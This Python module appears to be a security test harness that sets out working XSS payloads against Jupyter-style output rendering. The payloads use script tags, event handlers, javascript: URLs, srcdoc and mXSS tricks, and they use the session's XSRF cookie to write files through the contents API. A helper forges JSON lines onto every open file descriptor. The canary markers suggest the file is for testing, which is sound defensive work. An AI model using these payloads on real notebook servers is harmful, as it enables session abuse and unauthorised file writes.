import base64 as _b64, json as _json, os as _os
from IPython.display import display as _display


def _pwn(label):
    # JavaScript that shows it ran: window.__pwned (and top's), console "PWNED", a file
    # written through Jupyter's contents API with the session's XSRF token, PWNED images.
    return ("(function(){var l='" + label + "';window.__pwned=l;try{window.top.__pwned=l}catch(e){}"
            "console.log('PWNED '+l);var m=document.cookie.match(/_xsrf=([^;]+)/);"
            "try{fetch('/api/contents/pwned-'+l+'.txt',{method:'PUT',credentials:'include',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':m?m[1]:''},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})}catch(e){}"
            "new Image().src='/PWNED-'+l+'.png';new Image().src='http://127.0.0.1:9/PWNED-'+l+'.png'})()")


def _pwn64(label):
    return "eval(atob('" + _b64.b64encode(_pwn(label).encode()).decode() + "'))"


def _html(label):
    # Raw HTML that runs _pwn (or requests a PWNED URL) in every way a browser allows.
    p = lambda where: _pwn(label + "-" + where)
    return (
        f"<script>{p('script')}</script>"
        f"<img src=x onerror=\"{p('img-onerror')}\">"
        f"<svg onload=\"{p('svg-onload')}\"><script>{p('svg-script')}</script></svg>"
        f"<iframe srcdoc=\"<script>{p('iframe-srcdoc')}</script>\"></iframe>"
        f"<iframe src=\"javascript:{p('iframe-src')}\"></iframe>"
        f"<details open ontoggle=\"{p('details-ontoggle')}\"><summary>s</summary></details>"
        f"<object data=\"data:text/html;base64,{_b64.b64encode(('<script>' + p('object') + '</script>').encode()).decode()}\"></object>"
        f"<a href=\"javascript:{p('a-href')}\">click</a>"
        f"<form action=\"javascript:{p('form')}\"><button>go</button></form>"
        f"<img src=\"http://127.0.0.1:9/PWNED-{label}-plain-img.png\">"
        f"<link rel=stylesheet href=\"http://127.0.0.1:9/PWNED-{label}-css.css\">"
        f"<div style=\"background:url(http://127.0.0.1:9/PWNED-{label}-style.png)\">styled</div>"
        f"<svg><style><img src=x onerror=\"{p('mxss')}\"></style></svg>"
        f"<noscript><p title=\"</noscript><img src=x onerror=&quot;{p('noscript')}&quot;>\"></p></noscript>"
    )


def _forge(lines):
    # Write ``lines`` (dicts as JSON, or bytes), whole lines, to every file descriptor this
    # process has open, in pieces a pipe takes without blocking; an fd nobody reads is left.
    import select
    data = b"\n" + b"".join((l if isinstance(l, bytes) else _json.dumps(l).encode()) + b"\n" for l in lines)
    for name in _os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            view = memoryview(data)
            while view and select.select([], [fd], [], 1.0)[1]:
                view = view[_os.write(fd, view[:4096]):]
        except (OSError, ValueError):
            pass
